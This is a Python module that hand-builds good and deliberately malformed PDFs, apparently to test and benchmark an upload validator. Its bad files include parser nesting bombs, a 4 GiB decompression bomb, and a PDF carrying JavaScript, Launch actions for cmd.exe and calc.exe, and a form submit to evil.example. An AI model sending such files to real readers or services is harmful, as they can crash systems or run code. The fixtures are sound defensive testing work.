"""Good and bad PDFs built in memory, for tests and benchmarks.

Every generator returns ``bytes``; write them with ``Path.write_bytes``. The PDFs are
written by hand (no reportlab) so that each defect is exactly the one we intend, and so
that the good files are tiny and deterministic. Text uses the standard Type1 font
Helvetica with WinAnsiEncoding, which pypdf's ``extract_text`` reads back verbatim.

The bad files mirror the classes of pypdf denial-of-service reports: truncation,
garbage, broken cross-reference tables, encryption, empty page trees, deeply nested
objects (plain and inside a compressed object stream), a FlateDecode stream that inflates
to gigabytes, and reference cycles.
"""

from __future__ import annotations

import random
import zlib
from collections.abc import Callable, Sequence
from io import BytesIO

# A US Letter page in points; A4 would do as well, the tests only need known numbers.
LETTER = (612.0, 792.0)


def page_text(number: int) -> str:
    """The text drawn on page ``number`` (1-based) of ``valid_pdf`` when no texts are given."""
    return f"Council document page {number}"


def _escape(text: str) -> bytes:
    """A PDF literal string body: WinAnsi bytes with the three special characters escaped."""
    raw = text.encode("cp1252", errors="replace")
    return raw.replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def _num(value: float) -> bytes:
    return (b"%d" % value) if float(value).is_integer() else (b"%.4f" % value)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def assemble(
    objects: Sequence[bytes],
    *,
    root: int = 1,
    trailer_extra: bytes = b"",
    version: bytes = b"1.7",
) -> bytes:
    """Number ``objects`` from 1, write them with a correct classic xref table and trailer."""
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R%s >>\n" % (len(objects) + 1, root, trailer_extra)
    out += b"startxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def valid_pdf(
    pages: int = 3,
    *,
    texts: Sequence[str] | None = None,
    size: tuple[float, float] = LETTER,
    origin: tuple[float, float] = (0.0, 0.0),
    rotate: int = 0,
    image_bytes_per_page: int = 0,
    seed: int = 0,
) -> bytes:
    """A well-formed PDF with one line of known text per page (``page_text(n)`` by default).

    ``origin`` shifts the MediaBox (it need not start at 0,0), ``rotate`` sets /Rotate on
    every page. ``image_bytes_per_page`` > 0 adds an uncompressed greyscale image of random
    (thus incompressible) bytes to each page: that is how the benchmark file gets its bulk.
    """
    texts = list(texts) if texts is not None else [page_text(n) for n in range(1, pages + 1)]
    assert len(texts) == pages
    rng = random.Random(seed)
    x0, y0 = origin
    box = b"[%s %s %s %s]" % (_num(x0), _num(y0), _num(x0 + size[0]), _num(y0 + size[1]))
    per_page = 3 if image_bytes_per_page else 2
    first_page = 4
    kids = b" ".join(b"%d 0 R" % (first_page + i * per_page) for i in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    for i, text in enumerate(texts):
        page_no = first_page + i * per_page
        content = b"BT /F1 18 Tf %s %s Td (%s) Tj ET" % (
            _num(x0 + 72),
            _num(y0 + size[1] - 72),
            _escape(text),
        )
        xobjects = b""
        if image_bytes_per_page:
            width = 1000
            height = -(-image_bytes_per_page // width)
            content = (
                b"q %s 0 0 %s %s %s cm /Im1 Do Q\n"
                % (_num(size[0] - 144), _num(size[1] / 2), _num(x0 + 72), _num(y0 + 72))
                + content
            )
            xobjects = b" /XObject << /Im1 %d 0 R >>" % (page_no + 2)
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Rotate %d"
            b" /Resources << /Font << /F1 3 0 R >>%s >> /Contents %d 0 R >>"
            % (box, rotate, xobjects, page_no + 1)
        )
        objects.append(_stream(content))
        if image_bytes_per_page:
            objects.append(
                _stream(
                    rng.randbytes(width * height),
                    b" /Type /XObject /Subtype /Image /Width %d /Height %d"
                    b" /ColorSpace /DeviceGray /BitsPerComponent 8" % (width, height),
                )
            )
    return assemble(objects)


def large_pdf(
    pages: int = 300,
    total_bytes: int = 30 * 1024 * 1024,
    seed: int = 0,
    *,
    pages_first: bool = False,
) -> bytes:
    """The benchmark file: ``pages`` pages of text plus incompressible images, ~``total_bytes``.

    By default each page's dictionary sits next to its image, so the page objects are spread
    over the whole file. ``pages_first`` writes every page dictionary and content stream
    first and the images after them: the same document, laid out so that a reader can walk
    the page tree without touching the images.
    """
    per_page = max(1, total_bytes // pages)
    if not pages_first:
        return valid_pdf(pages, image_bytes_per_page=per_page, seed=seed)
    rng = random.Random(seed)
    width, height = 1000, -(-per_page // 1000)
    first_page, first_content, first_image = 4, 4 + pages, 4 + 2 * pages
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>"
        % (b" ".join(b"%d 0 R" % (first_page + i) for i in range(pages)), pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
    ]
    objects += [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >>"
        b" /XObject << /Im1 %d 0 R >> >> /Contents %d 0 R >>" % (first_image + i, first_content + i)
        for i in range(pages)
    ]
    objects += [
        _stream(
            b"q 468 0 0 396 72 72 cm /Im1 Do Q\nBT /F1 18 Tf 72 720 Td (%s) Tj ET"
            % _escape(page_text(n))
        )
        for n in range(1, pages + 1)
    ]
    objects += [
        _stream(
            rng.randbytes(width * height),
            b" /Type /XObject /Subtype /Image /Width %d /Height %d"
            b" /ColorSpace /DeviceGray /BitsPerComponent 8" % (width, height),
        )
        for _ in range(pages)
    ]
    return assemble(objects)


# --- bad files ------------------------------------------------------------------------


def empty_file() -> bytes:
    return b""


def not_pdf() -> bytes:
    """The start of a .docx (a zip): the most likely wrong upload from a secretariat."""
    return b"PK\x03\x04\x14\x00\x06\x00\x08\x00" + b"\x00" * 200 + b"word/document.xml"


def garbage_bytes(size: int = 4096, seed: int = 1) -> bytes:
    """Random bytes with no PDF header."""
    data = random.Random(seed).randbytes(size)
    return b"\x00" + data[1:]  # cannot start with %PDF- by accident


def pdf_header_then_garbage(size: int = 4096, seed: int = 2) -> bytes:
    """A PDF's first and last lines around random bytes: complete, but unreadable."""
    return b"%PDF-1.7\n" + random.Random(seed).randbytes(size) + b"\n%%EOF\n"


def truncated_pdf(pages: int = 3, keep: float = 0.6) -> bytes:
    """An upload cut off part-way: no xref, no trailer, no %%EOF."""
    data = valid_pdf(pages)
    return data[: int(len(data) * keep)]


def broken_xref_pdf(pages: int = 3) -> bytes:
    """Every xref offset points 5 bytes too far and startxref points into the void.

    Lenient readers (pypdf in non-strict mode, pdf.js) rebuild the table by scanning for
    ``N 0 obj``; a strict reader rejects it.
    """
    data = valid_pdf(pages)
    head, _, tail = data.partition(b"xref\n")
    table, _, trailer = tail.partition(b"trailer\n")
    lines = table.split(b"\n")
    shifted = [lines[0], lines[1]] + [
        b"%010d 00000 n " % (int(line[:10]) + 5) if line.endswith(b" n ") else line
        for line in lines[2:]
    ]
    trailer = trailer.split(b"startxref")[0] + b"startxref\n999999999\n%%EOF\n"
    return head + b"xref\n" + b"\n".join(shifted) + b"trailer\n" + trailer


def encrypted_pdf(user_password: str = "secret", owner_password: str = "owner") -> bytes:  # noqa: S107
    """Encrypted by pypdf; with an empty ``user_password`` it opens without a password."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(BytesIO(valid_pdf(2))))
    writer.encrypt(user_password=user_password, owner_password=owner_password)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def zero_pages_pdf() -> bytes:
    return assemble([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])


def nested_arrays_pdf(depth: int = 100_000) -> bytes:
    """A page whose /Annots is an array nested ``depth`` deep: recursion bombs parsers."""
    deep = b"[" * depth + b"]" * depth
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots " + deep + b" >>",
        ]
    )


def objstm_bomb_pdf(depth: int = 1_000_000) -> bytes:
    """The nesting bomb hidden in a compressed object stream (PDF 1.5 xref stream).

    A million levels of ``[`` compress to about a kilobyte, so the file is tiny.
    """
    deep = b"[" * depth + b"]" * depth
    inner = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots " + deep + b" >>",
    }
    header, body, offsets = b"", b"", []
    for number, obj in inner.items():
        offsets.append(b"%d %d" % (number, len(body)))
        body += obj + b"\n"
    header = b" ".join(offsets) + b"\n"
    objstm = zlib.compress(header + body, 9)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    objstm_at = len(out)
    out += b"4 0 obj\n" + _stream(
        objstm, b" /Type /ObjStm /N 3 /First %d /Filter /FlateDecode" % len(header)
    )
    out += b"\nendobj\n"
    xref_at = len(out)
    # Type 0 = free, 1 = plain (offset), 2 = in object stream (stream number, index).
    rows = [(0, 0, 65535), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, objstm_at, 0), (1, xref_at, 0)]
    table = b"".join(
        bytes([kind]) + a.to_bytes(4, "big") + b.to_bytes(2, "big") for kind, a, b in rows
    )
    out += b"5 0 obj\n" + _stream(table, b" /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R")
    out += b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    return bytes(out)


def zeros_deflate(total: int, chunk: int = 1 << 20) -> bytes:
    """A valid zlib stream that inflates to ``total`` zero bytes, built in milliseconds.

    After Z_FULL_FLUSH the compressor's state is reset, so compressing the same chunk again
    yields byte-identical output: we compress it twice, repeat the second block, and patch
    in the Adler-32 of n zeros (a = 1, b = n mod 65521) instead of feeding gigabytes to zlib.
    """
    assert total % chunk == 0 and total >= 2 * chunk
    zeros = bytes(chunk)
    comp = zlib.compressobj(9)
    first = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    block = comp.compress(zeros) + comp.flush(zlib.Z_FULL_FLUSH)
    tail = comp.flush(zlib.Z_FINISH)[:-4]  # final empty block, minus the checksum
    adler = ((total % 65521) << 16) | 1
    return first + block * (total // chunk - 1) + tail + adler.to_bytes(4, "big")


def flate_bomb_pdf(inflated_bytes: int = 4 << 30) -> bytes:
    """A one-page PDF whose content stream inflates to ``inflated_bytes`` (4 GiB: ~4 MB file)."""
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            # With no /Resources pypdf would skip the content stream entirely (no font, no
            # text), so give it a font: text extraction must then inflate the stream.
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> >> >>",
            _stream(zeros_deflate(inflated_bytes), b" /Filter /FlateDecode"),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def self_referencing_pdf() -> bytes:
    """Reference cycles: the page tree lists itself as a kid, a page is its own parent,
    and a stream's /Length is an object that refers to itself."""
    return assemble(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
            b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
            b"<< /Length 5 0 R >>\nstream\nBT ET\nendstream",
            b"5 0 R",
        ]
    )


# Bad uploads by name, for parametrised tests and for benchmarks of the rejection path.
BAD_FILES: dict[str, Callable[[], bytes]] = {
    "empty": empty_file,
    "not_pdf": not_pdf,
    "garbage": garbage_bytes,
    "header_then_garbage": pdf_header_then_garbage,
    "truncated": truncated_pdf,
    "broken_xref": broken_xref_pdf,
    "encrypted": encrypted_pdf,
    "zero_pages": zero_pages_pdf,
    "nested_arrays": nested_arrays_pdf,
    "objstm_bomb": objstm_bomb_pdf,
    "flate_bomb": flate_bomb_pdf,
    "self_referencing": self_referencing_pdf,
}


def active_content_pdf(*, signed: bool = False, catalog_extra: bytes = b"") -> bytes:
    """One page carrying every kind of active content a desktop reader might run.

    JavaScript (OpenAction, document /AA, the /Names tree, a /Next chain to Launch),
    a page /AA, a Launch link, a SubmitForm button, an embedded file and a FileAttachment
    annotation, an XFA form; plus a URI link and a GoTo link, which are not active.
    ``signed`` sets /SigFlags 3 (a signed file is served as uploaded when it is clean).
    """
    sig = b" /SigFlags 3" if signed else b""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /AA << /WC 6 0 R >>"
        b" /Names << /JavaScript << /Names [(a) 6 0 R] >>"
        b" /EmbeddedFiles << /Names [(x) 7 0 R] >> >>"
        b" /AcroForm << /Fields [9 0 R] /XFA 10 0 R%s >>%s >>" % (sig, catalog_extra),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792]"
        b" /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /AA << /O 6 0 R >>"
        b" /Annots [8 0 R 9 0 R 11 0 R 14 0 R 15 0 R] >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        _stream(b"BT /F1 18 Tf 72 720 Td (%s) Tj ET" % _escape(page_text(1))),
        b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) /Next 12 0 R >>",
        b"<< /Type /Filespec /F (x.exe) /UF (x.exe) /EF << /F 13 0 R >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (calc.exe) >> >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Btn /T (send) /Rect [0 700 50 720] /P 3 0 R"
        b" /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >> >>",
        _stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>"),
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [200 200 220 220] /FS 7 0 R >>",
        b"<< /Type /Action /S /Launch /F (cmd.exe) >>",
        _stream(b"MZ not really a program", b" /Type /EmbeddedFile"),
        b"<< /Type /Annot /Subtype /Link /Rect [300 300 400 320]"
        b" /A << /S /URI /URI (https://hdnd.example.gov.vn/) >> >>",
        b"<< /Type /Annot /Subtype /Link /Rect [300 340 400 360]"
        b" /A << /S /GoTo /D [3 0 R /Fit] >> >>",
    ]
    return assemble(objects)


def linearized_pdf() -> bytes:
    """A (minimal) linearized file: its first object is the linearization dictionary, whose
    /L is the file's length. (Hint tables omitted: only the marker is checked.)"""
    placeholder = b"<< /Linearized 1 /L 0000000000 /N 1 /O 4 /E 0 /T 0 /H [0 0] >>"
    objects = [
        placeholder,
        b"<< /Type /Catalog /Pages 3 0 R >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 612 792]"
        b" /Resources << /Font << /F1 5 0 R >> >> /Contents 6 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        _stream(b"BT /F1 18 Tf 72 720 Td (%s) Tj ET" % _escape(page_text(1))),
    ]
    data = assemble(objects, root=2)
    return data.replace(b"/L 0000000000", b"/L %010d" % len(data), 1)
